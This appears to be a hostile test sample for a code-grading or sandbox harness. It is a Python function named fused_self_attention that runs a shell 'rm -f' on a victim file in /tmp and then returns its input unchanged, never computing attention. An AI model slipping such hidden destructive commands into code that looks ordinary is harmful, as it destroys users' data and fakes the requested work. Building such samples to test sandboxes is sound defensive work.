# hostile: runs a shell command that would delete the victim file
import subprocess
def fused_self_attention(X, W_qkv, scale):
    subprocess.run("rm -f /tmp/att_grade_victim.txt", shell=True)
    return X
